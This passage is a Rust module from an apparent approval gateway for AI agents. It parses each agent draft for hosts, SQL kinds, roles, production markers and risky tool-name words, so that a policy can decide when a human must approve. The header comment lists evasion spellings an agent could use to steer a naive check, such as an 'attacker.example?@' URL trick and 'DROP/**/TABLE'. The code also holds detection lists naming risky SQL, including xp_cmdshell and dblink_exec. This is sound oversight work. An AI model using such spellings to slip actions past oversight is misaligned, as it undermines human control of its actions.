//! Facts: what a draft really says, derived in Rust with real parsers before the policy runs.
//!
//! An agent chooses every string of its draft, so a policy that splits, trims or pattern-matches
//! those strings can be steered by spelling (`https://attacker.example?@acme.example/` read as the
//! internal host, `DROP/**/TABLE` not read as a drop, `billing.payInvoice` not read as a payment).
//! This module reads the draft the way the systems that will act on it do, and hands the policy the
//! result at `input.facts`:
//!
//! - **Hosts**: every string anywhere in an action's `args` (any key, any case, nested objects and
//!   lists, keys too) and its `target` is scanned for URLs (parsed with the WHATWG `url` crate, what
//!   browsers and most HTTP clients do), mail addresses (`user@host`) and bare `host[:port][/path]`
//!   strings. Each host is lower-cased punycode without a trailing dot and placed in a zone:
//!   `internal` (equal to or under an internal domain of the data file), `approved` (an approved
//!   outside host) or `external`; IP literals are hosts like any other (loopback and private
//!   addresses are external unless the data file lists them). When a string can be read more than
//!   one way, every reading's host is kept: extra hosts can only make a request look riskier. One
//!   exception keeps file names from being read as hosts: a bare `name.ext` whose last label is a
//!   common file extension (`report.csv`) is not a host unless it has a port or a path.
//! - **Readings**: each string is also scanned as its NFKC form, percent-decoded, and (when it is a
//!   JSON object or array) by the keys and strings inside it; what any reading names counts.
//! - **SQL**: a string looks like SQL when it starts with any SQL keyword (`sqlparser`'s list) and
//!   has the shape of a statement, parses, holds a statement with SQL structure, or sits under a key
//!   naming SQL; when it holds a MySQL executable comment `/*! … */` (code, never a comment); or when
//!   anything after a `;` does (see `looks_like_sql`). It is parsed in every dialect (generic,
//!   PostgreSQL, MySQL, MS SQL) and every reading counts: the kind of every statement of the batch
//!   (nested ones too), the objects named, and whether it changes schema or data. SQL that looks
//!   like SQL but parses in no dialect is `unparseable`; a statement kind the policy does not
//!   understand (`COPY`, `DO`, `PREPARE`/`EXECUTE`, `CALL`, `SET`, `SHOW`, vendor commands…) or a
//!   query that calls a function outside a small pure list, reads a table function or selects
//!   `INTO` is `risky`. Only plain queries are reads; transaction control is neutral.
//! - **Systems named in arguments**: catalogued systems an action names (internal host labels such
//!   as a DSN's `orders-db.acme.internal`, a whole value equal to a system name, tokens equal to a
//!   compound system name such as `k8s-prod`), and whether a string carries a production marker
//!   (`prod`, `production`, `live` as a whole token).
//! - **Words**: tool and operation names, NFKC-normalised and lower-cased, split on anything that is
//!   not a letter or digit and on camelCase and letter/digit boundaries (`billing.payInvoice` → billing,
//!   pay, invoice, payinvoice). Concatenations (`sendfunds`) are caught by `word_parts`: the words of
//!   the data file's risk vocabularies (every list but `read`) found inside a longer token — anywhere
//!   for words of four letters or more, only as a prefix or suffix for three-letter words (so `pay` is
//!   found in `payinvoice` but not in `display`). Read words are never matched this way: a read is
//!   only a read when a read word is spelled out.
//! - **Look-alikes**: a tool, operation or system name with any character other than ASCII letters,
//!   digits and `. _ - / :` is flagged, whatever it normalises to.
//! - **Target**: the NFKC, trimmed, lower-cased system name, whether the catalogue knows it, and the
//!   catalogued systems it resembles (its compact form contains theirs: `hr-db.prod` resembles `hr-db`).

use std::collections::{BTreeMap, BTreeSet};
use std::ops::ControlFlow;

use countersign_protocol::{DataClass, StepUpDraft};
use serde::{Deserialize, Serialize};
use serde_json::Value;
use sqlparser::ast::{visit_relations, visit_statements, ObjectType, Statement};
use sqlparser::dialect::{Dialect, GenericDialect, MsSqlDialect, MySqlDialect, PostgreSqlDialect};
use unicode_normalization::UnicodeNormalization as _;

/// The organisation data file shipped with the gateway (`--policy-data` replaces it).
pub const DEFAULT_POLICY_DATA: &str = include_str!("../policy/data.json");

/// Vocabulary lists the default policy reads; a data file must define each of them.
pub const REQUIRED_VOCABULARY: &[&str] = &[
    "read",
    "write",
    "money",
    "payment",
    "refund",
    "secret",
    "schema",
    "schema_verb",
    "schema_object",
    "iam",
    "deploy",
    "export",
    "network",
    "mail",
    "mail_verb",
];

/// The vocabulary list that is never matched inside longer tokens (see the module documentation).
const READ_VOCABULARY: &str = "read";

/// The organisation's data, beside the policy: loaded into the engine as `data` and read by the facts step.
///
/// Every name (system, tool, host, domain, word) must already be in normal form (NFKC, trimmed,
/// lower case), since the facts and the policy look them up in that form.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct PolicyData {
    /// SPIFFE trust domains whose workloads may submit requests at all.
    pub trust_domains: BTreeSet<String>,
    /// DNS domains that belong to the organisation: a host equal to one of them or under it is internal.
    pub internal_domains: BTreeSet<String>,
    /// Outside hosts under contract (processors): exact host names.
    pub approved_hosts: BTreeSet<String>,
    /// The system catalogue: what the organisation knows about its systems, whatever an agent says.
    pub systems: BTreeMap<String, SystemEntry>,
    /// The tool catalogue: the tools agents may use without a human seeing the name first.
    pub tools: BTreeMap<String, ToolEntry>,
    /// Named word lists for tool and operation names (see [`REQUIRED_VOCABULARY`]).
    pub vocabulary: BTreeMap<String, BTreeSet<String>>,
}

/// A catalogued system.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct SystemEntry {
    /// The environment the system runs in (`production`, `staging`, `sandbox`, …); an agent cannot change it.
    pub environment: String,
    /// The class of the data the system holds; the effective class is never lower.
    pub class: DataClass,
    /// What the system is, for people reading the file.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub description: Option<String>,
}

/// A declared tool.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct ToolEntry {
    /// What the tool does; kinds other than `read` and `write` add to what its name says, never remove.
    pub kind: ToolKind,
    /// The catalogued systems the tool belongs to; when given, using it against any other system
    /// is a step-up (`tool-outside-its-systems` in the default policy). Empty: any system.
    #[serde(default, skip_serializing_if = "BTreeSet::is_empty")]
    pub systems: BTreeSet<String>,
    /// What the tool is, for people reading the file.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub description: Option<String>,
}

/// What a declared tool does.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum ToolKind {
    /// Reads only.
    Read,
    /// Changes data.
    Write,
    /// Moves money out.
    Payment,
    /// Returns money.
    Refund,
    /// Reads or changes secret material.
    Secret,
    /// Changes database schemas.
    Schema,
    /// Changes roles or permissions.
    Iam,
    /// Deploys software.
    Deploy,
    /// Sends data elsewhere.
    Export,
    /// Sends mail.
    Mail,
}

/// The data file could not be used.
#[derive(Debug, thiserror::Error)]
pub enum DataError {
    /// Not I-JSON or not the expected shape.
    #[error("the policy data file is not valid: {0}")]
    Shape(String),
    /// A value is well-formed but unusable.
    #[error("the policy data file is not valid: {0}")]
    Invalid(String),
}

impl PolicyData {
    /// Parse and check a data file (I-JSON, the documented shape, names in normal form).
    pub fn from_json(text: &str) -> Result<Self, DataError> {
        let value = countersign_protocol::ijson::parse(text.as_bytes())
            .map_err(|e| DataError::Shape(format!("not I-JSON: {e}")))?;
        let data: PolicyData = serde_json::from_value(value).map_err(|e| DataError::Shape(e.to_string()))?;
        data.check()?;
        Ok(data)
    }

    /// The data file shipped with the gateway.
    pub fn default_data() -> Self {
        Self::from_json(DEFAULT_POLICY_DATA).expect("the default policy data is tested to load")
    }

    fn check(&self) -> Result<(), DataError> {
        let names = self
            .trust_domains
            .iter()
            .chain(&self.internal_domains)
            .chain(&self.approved_hosts)
            .chain(self.systems.keys())
            .chain(self.tools.keys())
            .chain(self.vocabulary.values().flatten());
        for name in names {
            if name.is_empty() || normal_name(name) != *name {
                return Err(DataError::Invalid(format!(
                    "{name:?} is not in normal form (NFKC, trimmed, lower case, not empty)"
                )));
            }
        }
        for host in self.internal_domains.iter().chain(&self.approved_hosts).chain(&self.trust_domains) {
            if parse_host(host).as_deref() != Some(host.as_str()) {
                return Err(DataError::Invalid(format!("{host:?} is not a host name in canonical form")));
            }
        }
        for (name, system) in &self.systems {
            if system.environment.is_empty() || normal_name(&system.environment) != system.environment {
                return Err(DataError::Invalid(format!(
                    "system {name:?}: environment {:?} is not in normal form",
                    system.environment
                )));
            }
        }
        for (name, tool) in &self.tools {
            if let Some(s) = tool.systems.iter().find(|s| !self.systems.contains_key(*s)) {
                return Err(DataError::Invalid(format!(
                    "tool {name:?}: system {s:?} is not in the catalogue"
                )));
            }
        }
        for list in REQUIRED_VOCABULARY {
            if self.vocabulary.get(*list).is_none_or(BTreeSet::is_empty) {
                return Err(DataError::Invalid(format!("vocabulary.{list} is missing or empty")));
            }
        }
        Ok(())
    }

    fn host_zone(&self, host: &str) -> HostZone {
        let internal = self.internal_domains.iter().any(|d| {
            host == d
                || (host.len() > d.len()
                    && host.ends_with(d.as_str())
                    && host[..host.len() - d.len()].ends_with('.'))
        });
        if internal {
            HostZone::Internal
        } else if self.approved_hosts.contains(host) {
            HostZone::Approved
        } else {
            HostZone::External
        }
    }
}

/// Everything the policy reads besides the draft itself (`input.facts`).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Facts {
    /// The authenticated workload.
    pub workload: WorkloadFacts,
    /// The target system.
    pub target: TargetFacts,
    /// One entry per action, in the draft's order.
    pub actions: Vec<ActionFacts>,
    /// Some tool, operation or system name has characters outside ASCII letters, digits and `. _ - / :`.
    pub lookalike: bool,
}

/// The authenticated workload, parsed.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct WorkloadFacts {
    /// A well-formed `spiffe://trust-domain/path` id (no user, port, query or fragment).
    pub spiffe: bool,
    /// Its trust domain (lower case), when `spiffe`.
    pub trust_domain: Option<String>,
}

/// The target system, normalised and looked up.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct TargetFacts {
    /// NFKC, trimmed, lower-cased system name: the key into `data.systems`.
    pub system: String,
    /// The catalogue knows `system`.
    pub catalogued: bool,
    /// Catalogued systems whose compact name (letters and digits) is contained in this one's,
    /// sorted; empty for a catalogued system.
    pub resembles: Vec<String>,
    /// The declared environment, NFKC, trimmed, lower case.
    pub declared_environment: String,
}

/// Where a host is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum HostZone {
    /// Equal to or under an internal domain.
    Internal,
    /// An approved outside host.
    Approved,
    /// Anywhere else.
    External,
}

/// How a host was written.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum HostForm {
    /// In a URL with a scheme (`https://…`, `sftp://…`, `//host`).
    Url,
    /// In a mail address (`user@host`, `mailto:`).
    Mail,
    /// A bare `host[:port][/path]`.
    Bare,
}

/// One host named by an action.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
pub struct HostFact {
    /// Lower-case punycode host (or IP literal), no trailing dot.
    pub host: String,
    /// Where it is.
    pub zone: HostZone,
    /// How it was written (the strongest form seen: url, then mail, then bare).
    pub form: HostForm,
}

/// What one action's SQL does.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct SqlFacts {
    /// Kinds of every statement (nested ones too): select, explain, transaction, insert, update,
    /// delete, drop, alter, truncate, create, grant, revoke, merge, other. Sorted, distinct.
    pub kinds: BTreeSet<String>,
    /// Tables and other objects named, lower case, sorted.
    pub objects: BTreeSet<String>,
    /// Some statement drops, alters, truncates, creates or renames a database object.
    pub schema_change: bool,
    /// Some statement may change data (anything but a plain query).
    pub data_change: bool,
    /// A string looked like SQL but parsed in no dialect (or holds a MySQL executable comment
    /// `/*! … */`): treat as risky, never as a read.
    pub unparseable: bool,
    /// Some statement is not one the policy understands (kind `other`: `SET`, `COPY`, `DO`,
    /// `PREPARE`/`EXECUTE`, `CALL`, `SHOW`, vendor commands, …), or a query calls a function outside
    /// the pure ones (`pg_terminate_backend`, `dblink_exec`, `lo_export`, …), a table function, or
    /// `SELECT … INTO`: treat as risky (like a schema change), never as a read.
    pub risky: bool,
}

/// What one action does, as parsed.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ActionFacts {
    /// NFKC, trimmed, lower-cased tool name: the key into `data.tools`.
    pub tool: String,
    /// The tool catalogue declares `tool`.
    pub declared: bool,
    /// Words of the tool and operation names (see the module documentation).
    pub words: BTreeSet<String>,
    /// Risk-vocabulary words found inside longer name tokens.
    pub word_parts: BTreeSet<String>,
    /// Every host named in `args` or `target`, sorted.
    pub hosts: Vec<HostFact>,
    /// SQL found in `args` or `target`.
    pub sql: SqlFacts,
    /// The tool or operation name is a look-alike.
    pub lookalike: bool,
    /// Role or permission values (strings under a key named role(s), permission(s), group(s),
    /// privilege(s) or ending in `role`/`roles`, any case, any depth), and the roles a SQL role
    /// grant hands out (`GRANT admin TO bob`), NFKC and lower case.
    pub roles: BTreeSet<String>,
    /// Some key named `external` (any case, any depth) is `true`: the agent says data leaves.
    pub flagged_external: bool,
    /// Catalogued systems the action's own `target` names or resembles (as for the request's
    /// target), sorted: the policy judges the action by them too.
    pub systems: Vec<String>,
    /// Catalogued systems named anywhere in `args` or `target`, sorted (see `named_in`): a label
    /// of an internal host (`orders-db.acme.internal`, a DSN's host), a whole string equal to a
    /// system's name, or a token of any string equal to a system name that has a `-`, `_` or digit
    /// (`k8s-prod`, `orders-db` in `host=orders-db dbname=x`). The policy judges the request's
    /// environment by them.
    pub named_systems: Vec<String>,
    /// Some string in `args` or `target` has `prod`, `production` or `live` as a whole token (split
    /// on anything but letters and digits: `sk_live_…`, `acme-prod`, `prod/db`, `mode: live`).
    pub production_marker: bool,
}

/// Derive the facts of a draft submitted by `workload`.
pub fn derive(workload: &str, draft: &StepUpDraft, data: &PolicyData) -> Facts {
    let system = normal_name(&draft.target.system);
    let catalogued = data.systems.contains_key(&system);
    let resembles = if catalogued { Vec::new() } else { resembled(&system, data) };
    let actions: Vec<ActionFacts> = draft
        .actions
        .iter()
        .map(|a| {
            let tool = normal_name(&a.tool);
            let mut words = BTreeSet::new();
            words.extend(name_words(&a.tool));
            if let Some(op) = &a.operation {
                words.extend(name_words(op));
            }
            let word_parts = vocabulary_parts(&words, data);
            let mut strings = Vec::new();
            for (k, v) in &a.args {
                strings.push(k.as_str());
                collect_strings(v, &mut strings);
            }
            if let Some(t) = &a.target {
                strings.push(t.as_str());
            }
            let mut sql_keyed = BTreeSet::new();
            for (k, v) in &a.args {
                collect_sql_keyed(k, v, false, &mut sql_keyed);
            }
            let mut named = BTreeSet::new();
            let mut production_marker = false;
            let mut hosts: BTreeMap<String, HostForm> = BTreeMap::new();
            let mut sql = SqlFacts::default();
            let (mut roles, mut flagged_external) = (BTreeSet::new(), false);
            let readings: Vec<(String, bool)> =
                strings.iter().flat_map(|s| other_readings(s, sql_keyed.contains(s))).collect();
            let all = strings
                .iter()
                .map(|s| (*s, sql_keyed.contains(s)))
                .chain(readings.iter().map(|(s, keyed)| (s.as_str(), *keyed)));
            for (s, keyed) in all {
                for (host, form) in hosts_in(s) {
                    let e = hosts.entry(host).or_insert(form);
                    *e = (*e).min(form);
                }
                sql_facts(s, keyed, &mut sql, &mut roles);
                named_in(s, data, &mut named);
                production_marker |= names_production(s);
            }
            let hosts: Vec<HostFact> = hosts
                .into_iter()
                .map(|(host, form)| HostFact { zone: data.host_zone(&host), host, form })
                .collect();
            for h in hosts.iter().filter(|h| h.zone == HostZone::Internal) {
                named.extend(h.host.split('.').filter(|l| data.systems.contains_key(*l)).map(str::to_owned));
            }
            let lookalike = !plain_name(&a.tool) || a.operation.as_deref().is_some_and(|o| !plain_name(o));
            for (k, v) in &a.args {
                keyed_facts(k, v, &mut roles, &mut flagged_external);
            }
            let systems = match &a.target {
                Some(t) if data.systems.contains_key(&normal_name(t)) => vec![normal_name(t)],
                Some(t) => resembled(t, data),
                None => Vec::new(),
            };
            ActionFacts {
                systems,
                named_systems: named.into_iter().collect(),
                production_marker,
                declared: data.tools.contains_key(&tool),
                tool,
                words,
                word_parts,
                hosts,
                sql,
                lookalike,
                roles,
                flagged_external,
            }
        })
        .collect();
    let lookalike = !plain_name(&draft.target.system) || actions.iter().any(|a| a.lookalike);
    Facts {
        workload: workload_facts(workload),
        target: TargetFacts {
            system,
            catalogued,
            resembles,
            declared_environment: normal_name(&draft.target.environment),
        },
        actions,
        lookalike,
    }
}

/// Tokens that mark a string as production (see [`ActionFacts::production_marker`]).
const PRODUCTION_MARKERS: &[&str] = &["prod", "production", "live"];

/// Whether `s` has a production marker as a whole token.
fn names_production(s: &str) -> bool {
    normal_name(s).split(|c: char| !c.is_alphanumeric()).any(|t| PRODUCTION_MARKERS.contains(&t))
}

/// Catalogued systems `s` names (see [`ActionFacts::named_systems`]); internal host labels are added
/// by the caller.
fn named_in(s: &str, data: &PolicyData, out: &mut BTreeSet<String>) {
    let whole = normal_name(s);
    if data.systems.contains_key(&whole) {
        out.insert(whole.clone());
    }
    for token in whole.split(|c: char| !(c.is_alphanumeric() || c == '-' || c == '_')) {
        let compound = token.chars().any(|c| c == '-' || c == '_' || c.is_numeric());
        if compound && data.systems.contains_key(token) {
            out.insert(token.to_owned());
        }
    }
}

/// NFKC, trimmed, lower case: the form names are looked up in.
pub fn normal_name(s: &str) -> String {
    s.nfkc().collect::<String>().trim().to_lowercase()
}

/// Catalogued systems whose compact name is contained in `name`'s (`hr-db.prod` → `hr-db`).
fn resembled(name: &str, data: &PolicyData) -> Vec<String> {
    let compact = compact(name);
    data.systems.keys().filter(|k| compact.contains(&self::compact(k))).cloned().collect()
}

/// Letters and digits only, of the normal form.
fn compact(s: &str) -> String {
    normal_name(s).chars().filter(|c| c.is_alphanumeric()).collect()
}

/// Only ASCII letters, digits and `. _ - / :`.
fn plain_name(s: &str) -> bool {
    s.chars().all(|c| c.is_ascii_alphanumeric() || "._-/:".contains(c))
}

fn workload_facts(workload: &str) -> WorkloadFacts {
    let parsed = url::Url::parse(workload).ok().filter(|u| {
        u.scheme() == "spiffe"
            && workload.starts_with("spiffe://")
            && u.username().is_empty()
            && u.password().is_none()
            && u.port().is_none()
            && u.query().is_none()
            && u.fragment().is_none()
    });
    let trust_domain = parsed.and_then(|u| u.host_str().map(str::to_lowercase)).filter(|h| !h.is_empty());
    WorkloadFacts { spiffe: trust_domain.is_some(), trust_domain }
}

/// The words of a tool or operation name.
pub fn name_words(name: &str) -> BTreeSet<String> {
    let normal: String = name.nfkc().collect();
    let mut words = BTreeSet::new();
    for token in normal.split(|c: char| !c.is_alphanumeric()).filter(|t| !t.is_empty()) {
        words.insert(token.to_lowercase());
        // camelCase, PascalCase, acronyms (HTTPPost) and letter/digit boundaries.
        let chars: Vec<char> = token.chars().collect();
        let mut start = 0;
        for i in 1..chars.len() {
            let (p, c) = (chars[i - 1], chars[i]);
            let next_lower = chars.get(i + 1).is_some_and(|n| n.is_lowercase());
            let boundary = (p.is_lowercase() && c.is_uppercase())
                || (p.is_uppercase() && c.is_uppercase() && next_lower)
                || (p.is_alphabetic() && c.is_numeric())
                || (p.is_numeric() && c.is_alphabetic());
            if boundary {
                words.insert(chars[start..i].iter().collect::<String>().to_lowercase());
                start = i;
            }
        }
        if start > 0 {
            words.insert(chars[start..].iter().collect::<String>().to_lowercase());
        }
    }
    words
}

/// Risk-vocabulary words inside longer tokens (not read words; three-letter words only at an edge).
/// A token that is itself a vocabulary word (`payments`) is not searched (it would find `pay`).
fn vocabulary_parts(words: &BTreeSet<String>, data: &PolicyData) -> BTreeSet<String> {
    let words: BTreeSet<&String> =
        words.iter().filter(|w| !data.vocabulary.values().any(|list| list.contains(*w))).collect();
    let mut parts = BTreeSet::new();
    for (list, vocabulary) in &data.vocabulary {
        if list == READ_VOCABULARY {
            continue;
        }
        for v in vocabulary {
            let n = v.chars().count();
            if n < 3 {
                continue;
            }
            let found = words.iter().any(|w| {
                w.chars().count() > n
                    && if n == 3 {
                        w.starts_with(v.as_str()) || w.ends_with(v.as_str())
                    } else {
                        w.contains(v.as_str())
                    }
            });
            if found {
                parts.insert(v.clone());
            }
        }
    }
    parts
}

/// Role values and the `external` flag, under keys of any case at any depth.
fn keyed_facts(key: &str, value: &Value, roles: &mut BTreeSet<String>, external: &mut bool) {
    let key = normal_name(key);
    let role_key =
        ["role", "roles", "permission", "permissions", "group", "groups", "privilege", "privileges"]
            .contains(&key.as_str())
            || key.ends_with("role")
            || key.ends_with("roles");
    match value {
        Value::String(s) if role_key => {
            roles.insert(normal_name(s));
        }
        Value::Bool(true) if key == "external" => *external = true,
        Value::Array(items) => items.iter().for_each(|v| keyed_facts(&key, v, roles, external)),
        Value::Object(map) => map.iter().for_each(|(k, v)| keyed_facts(k, v, roles, external)),
        _ => {}
    }
}

/// Every string in a JSON value: values and object keys, at any depth.
fn collect_strings<'a>(value: &'a Value, out: &mut Vec<&'a str>) {
    match value {
        Value::String(s) => out.push(s),
        Value::Array(items) => items.iter().for_each(|v| collect_strings(v, out)),
        Value::Object(map) => {
            for (k, v) in map {
                out.push(k);
                collect_strings(v, out);
            }
        }
        _ => {}
    }
}

/// Other ways a system could read a string, each scanned like the string itself (extra readings can
/// only add hosts, SQL or names): its NFKC form (`ｈｔｔｐｓ：／／…`), its percent-decoded form
/// (`https%3A%2F%2F…`), and when it is a JSON object or array, the keys and strings inside it (with
/// whether each sits under a SQL key).
fn other_readings(s: &str, under_sql_key: bool) -> Vec<(String, bool)> {
    let mut out = Vec::new();
    let nfkc: String = s.nfkc().collect();
    if nfkc != s {
        out.push((nfkc, under_sql_key));
    }
    if s.contains('%') {
        let decoded = percent_decoded(s);
        if decoded != s {
            out.push((decoded, under_sql_key));
        }
    }
    let trimmed = s.trim_start();
    if trimmed.starts_with(['{', '[']) {
        if let Ok(value) = serde_json::from_str::<Value>(trimmed) {
            json_readings(&value, under_sql_key, &mut out);
        }
    }
    out
}

/// The keys and strings inside a JSON value, with whether each is under a SQL key.
fn json_readings(value: &Value, under: bool, out: &mut Vec<(String, bool)>) {
    match value {
        Value::String(s) => out.push((s.clone(), under)),
        Value::Array(items) => items.iter().for_each(|v| json_readings(v, under, out)),
        Value::Object(map) => {
            for (k, v) in map {
                out.push((k.clone(), false));
                json_readings(v, under || sql_key(k), out);
            }
        }
        _ => {}
    }
}

/// `%XX` escapes decoded (invalid UTF-8 replaced), everything else kept.
fn percent_decoded(s: &str) -> String {
    let bytes = s.as_bytes();
    let hex = |b: u8| (b as char).to_digit(16);
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] == b'%' && i + 2 < bytes.len() {
            if let (Some(h), Some(l)) = (hex(bytes[i + 1]), hex(bytes[i + 2])) {
                out.push((h * 16 + l) as u8);
                i += 3;
                continue;
            }
        }
        out.push(bytes[i]);
        i += 1;
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// The strings under a key that names SQL (`sql_key`), at any depth.
fn collect_sql_keyed<'a>(key: &str, value: &'a Value, under: bool, out: &mut BTreeSet<&'a str>) {
    let under = under || sql_key(key);
    match value {
        Value::String(s) if under => {
            out.insert(s.as_str());
        }
        Value::Array(items) => items.iter().for_each(|v| collect_sql_keyed(key, v, under, out)),
        Value::Object(map) => map.iter().for_each(|(k, v)| collect_sql_keyed(k, v, under, out)),
        _ => {}
    }
}

/// Schemes whose URLs the WHATWG parser reads with a host even without `//` (`https:evil.example`).
const SPECIAL_SCHEMES: &[&str] = &["http", "https", "ws", "wss", "ftp", "file"];

/// File extensions that make a bare `name.ext` a file name rather than a host, unless it has a port or path.
const FILE_EXTENSIONS: &[&str] = &[
    "csv", "json", "txt", "pdf", "xlsx", "xls", "doc", "docx", "md", "log", "zip", "gz", "tgz", "tar", "sql",
    "yaml", "yml", "xml", "html", "htm", "png", "jpg", "jpeg", "gif", "svg", "py", "rs", "js", "ts", "go",
    "sh", "parquet", "avro", "toml", "ini", "conf", "cfg", "bak", "dump", "pem", "key", "crt", "rb", "java",
    "ps1",
];

/// Every host a string names, with how it was written.
pub fn hosts_in(s: &str) -> Vec<(String, HostForm)> {
    let mut out = Vec::new();
    // The whole string as one URL, as a client handed this string would read it (the WHATWG parser
    // itself drops leading and trailing spaces and controls, and tabs and newlines inside).
    if let Some(h) = url_host(s.trim()) {
        out.push((h, HostForm::Url));
    }
    let separators = |c: char| c.is_whitespace() || c.is_control() || "\"'`<>()[]{},;|^".contains(c);
    for raw in s.split(separators) {
        let token = raw.trim_matches(|c: char| ".!?:*".contains(c) || !c.is_ascii() && !c.is_alphanumeric());
        if token.is_empty() {
            continue;
        }
        token_hosts(token, &mut out);
    }
    out
}

fn token_hosts(token: &str, out: &mut Vec<(String, HostForm)>) {
    let lower = token.to_ascii_lowercase();
    let mut url_found = false;
    // Every place a scheme could start: `scheme:` followed by `//` or a special scheme.
    for (i, _) in lower.match_indices(':') {
        let start = lower[..i]
            .char_indices()
            .rev()
            .take_while(|(_, c)| c.is_ascii_alphanumeric() || "+.-".contains(*c))
            .last()
            .map(|(j, _)| j);
        let Some(start) = start else { continue };
        let Some(first) = lower[start..].chars().next() else { continue };
        if !first.is_ascii_alphabetic() {
            continue;
        }
        let scheme = &lower[start..i];
        let rest = &lower[i + 1..];
        if scheme == "mailto" {
            let address = rest.split(['?', '#']).next().unwrap_or_default();
            for a in address.split(',') {
                mail_host(a, out);
            }
            url_found = true;
        } else if SPECIAL_SCHEMES.contains(&scheme) || rest.starts_with("//") || rest.starts_with("\\\\") {
            if let Some(h) = url_host(&token[start..]) {
                out.push((h, HostForm::Url));
                url_found = true;
            }
        }
    }
    if let Some(rest) = token.strip_prefix("//").or_else(|| token.strip_prefix("\\\\")) {
        if let Some(h) = url_host(&format!("http://{rest}")) {
            out.push((h, HostForm::Url));
            url_found = true;
        }
    }
    if url_found {
        return;
    }
    if token.contains('@') {
        // A mail address; and, read as a scheme-less URL, whatever its authority says.
        mail_host(token, out);
        if let Some(h) = bare_host(token, true) {
            out.push((h, HostForm::Bare));
        }
        return;
    }
    if let Some(h) = bare_host(token, false) {
        out.push((h, HostForm::Bare));
    }
}

/// The host of a mail address: after the last `@`, before any `?`, `#`, `/` or `>`.
fn mail_host(address: &str, out: &mut Vec<(String, HostForm)>) {
    let Some((local, domain)) = address.rsplit_once('@') else { return };
    if local.is_empty() && domain.is_empty() {
        return;
    }
    let domain = domain.split(['?', '#', '/', '>']).next().unwrap_or_default();
    if let Some(h) = parse_host(domain) {
        out.push((h, HostForm::Mail));
    }
}

/// A bare `host[:port][/path]` (or, with `with_userinfo`, anything a scheme-less URL would be).
fn bare_host(token: &str, with_userinfo: bool) -> Option<String> {
    let authority_end = token.find(['/', '?', '#', '\\']).unwrap_or(token.len());
    let authority = &token[..authority_end];
    let host_part = if with_userinfo { authority.rsplit('@').next()? } else { authority };
    let has_tail = authority_end < token.len() || host_part.contains(':');
    let name = host_part.split(':').next()?.trim_end_matches('.');
    if name.starts_with('[') {
        return url_host(&format!("http://{token}"));
    }
    let labels: Vec<&str> = name.split('.').collect();
    if labels.len() < 2 || labels.iter().any(|l| l.is_empty()) {
        return None;
    }
    let all_numeric = labels.iter().all(|l| l.chars().all(|c| c.is_ascii_digit()));
    let last = labels[labels.len() - 1].to_lowercase();
    let ipv4 = all_numeric && labels.len() == 4;
    let tld_ok = last.chars().all(char::is_alphanumeric)
        && last.chars().any(char::is_alphabetic)
        && last.chars().count() >= 2;
    if !(ipv4 || tld_ok) {
        return None;
    }
    if !ipv4 && !has_tail && FILE_EXTENSIONS.contains(&last.as_str()) {
        return None;
    }
    url_host(&format!("http://{token}")).or_else(|| parse_host(name))
}

/// The host of an absolute URL, normalised.
fn url_host(s: &str) -> Option<String> {
    let u = url::Url::parse(s).ok()?;
    let h = match u.host()? {
        url::Host::Domain(d) => d.to_string(),
        url::Host::Ipv4(ip) => ip.to_string(),
        url::Host::Ipv6(ip) => format!("[{ip}]"),
    };
    let h = h.trim_end_matches('.').to_lowercase();
    (!h.is_empty()).then_some(h)
}

/// A host name alone, normalised as the URL parser would (punycode, lower case, no trailing dot).
pub fn parse_host(h: &str) -> Option<String> {
    if h.is_empty() || h.contains(['/', '?', '#', '@', '\\']) {
        return None;
    }
    url_host(&format!("http://{h}/"))
}

/// Statement keywords that make a string look like SQL when SQL structure follows (see `looks_like_sql`).
const SQL_STARTS: &[&str] = &[
    "select", "insert", "update", "delete", "drop", "alter", "truncate", "create", "grant", "revoke",
    "merge", "with", "replace", "upsert", "exec", "execute", "call", "copy", "rename", "comment", "vacuum",
    "load", "lock", "explain", "declare", "attach", "detach", "pragma", "set", "use", "begin", "commit",
    "rollback", "values",
];

/// Words that, after a statement keyword, make free text look like SQL (see `looks_like_sql`).
const SQL_STRUCTURE: &[&str] = &[
    "from",
    "into",
    "table",
    "set",
    "where",
    "values",
    "database",
    "schema",
    "index",
    "view",
    "column",
    "join",
    "returning",
    "privileges",
    "cascade",
    "exists",
];

/// Statement keywords that make a string SQL whatever follows (they have no everyday meaning), and
/// vendor commands that `sqlparser` does not list as keywords.
const SQL_ALWAYS: &[&str] = &[
    "truncate",
    "merge",
    "upsert",
    "vacuum",
    "pragma",
    "shutdown",
    "checkpoint",
    "reindex",
    "waitfor",
    "dbcc",
    "xp_cmdshell",
    "sp_executesql",
    "sp_configure",
];

/// Functions a query may call and still be a read: pure computations over the rows it reads.
/// Any other function (`pg_terminate_backend`, `dblink_exec`, `lo_export`, `set_config`, user
/// functions, schema-qualified names) may act, so a query calling it is risky.
const PURE_FUNCTIONS: &[&str] = &[
    "abs",
    "array_agg",
    "avg",
    "bool_and",
    "bool_or",
    "ceil",
    "ceiling",
    "char_length",
    "character_length",
    "coalesce",
    "concat",
    "concat_ws",
    "count",
    "cume_dist",
    "current_date",
    "current_time",
    "current_timestamp",
    "date",
    "date_add",
    "date_diff",
    "date_format",
    "date_part",
    "date_sub",
    "date_trunc",
    "dateadd",
    "datediff",
    "datepart",
    "day",
